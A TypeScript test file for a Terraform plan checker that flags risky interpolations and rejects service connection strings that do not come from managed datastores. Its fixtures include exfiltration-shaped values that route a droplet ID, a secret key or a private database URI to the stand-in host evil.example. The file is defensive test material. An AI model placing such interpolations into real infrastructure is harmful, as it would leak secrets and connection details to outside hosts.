import { refusedObject } from '../../plan/object-check';
import { unusualExpressions } from '../../plan/unusual-expressions';

const secret = '${digitalocean_spaces_key.machine-key.secret_key}';
const told = (type: string, body: object): string[] =>
  unusualExpressions({ resource: { [type]: { x: body } } }).map((line) => line.replace(/ is worked out.*becomes:/, ''));

test.each<[string, string, object, string[]]>([
  ['plain texts and numbers', 'digitalocean_record', { value: '203.0.113.7', ttl: 60 }, []],
  ['one reference', 'digitalocean_record', { value: '${digitalocean_reserved_ip.public-address.ip_address}' }, []],
  ['letters that Terraform would read', 'digitalocean_record', { value: '$${HOME} ${"\\U00000301"}' }, []],
  [
    'a text around a reference',
    'digitalocean_record',
    { value: '${digitalocean_droplet.machine.id}.evil.example' },
    ['`digitalocean_record.x.value` "${digitalocean_droplet.machine.id}.evil.example"'],
  ],
  ['a secret in a domain', 'digitalocean_domain', { name: secret }, [`\`digitalocean_domain.x.name\` "${secret}"`]],
  [
    "another key than CI's as a secret of GitHub's",
    'github_actions_environment_secret',
    { plaintext_value: secret },
    [`\`github_actions_environment_secret.x.plaintext_value\` "${secret}"`],
  ],
  [
    'a function, deep in a block',
    'digitalocean_firewall',
    { inbound_rule: [{ source_addresses: ['${base64decode("MA==")}'] }] },
    ['`digitalocean_firewall.x.inbound_rule[0].source_addresses[0]` "${base64decode(\\"MA==\\")}"'],
  ],
  [
    'an expression as a key',
    'terraform_data',
    { input: { [secret]: 'x' } },
    [`\`terraform_data.x.input\` "${secret}"`],
  ],
])('a reviewer is told of what a plan may hide: %s', (_, type, body, expected) => {
  expect(told(type, body)).toEqual(expected);
});

test.each([
  ['{"api":{"DATABASE_URL":"${digitalocean_database_connection_pool.pool-api.private_uri}"}}\n', false],
  ['{}\n', false],
  [
    '{"api":{"DATABASE_URL":"postgresql://evil.example/?${digitalocean_database_connection_pool.pool-api.private_uri}"}}\n',
    true,
  ],
  [
    '{"api":{"DATABASE_URL":"postgresql://evil.example/","REDIS_URL":"${digitalocean_database_cluster.redis.private_uri}"}}\n',
    true,
  ],
  ['{"api":{"DATABASE_URL":"${digitalocean_spaces_key.machine-key.secret_key}"}}\n', true],
])(
  'what services connect with comes from managed datastores alone, since a plan hides it: %j',
  (content, isRefused) => {
    const programs = { agent: 'a', convergence: 'b', succession: 'c' };
    const body = { path: 'object', type: 'digitalocean_spaces_bucket_object', body: { key: 'managed.json', content } };
    expect(refusedObject(body, new Map(), programs).length > 0).toBe(isRefused);
  },
);
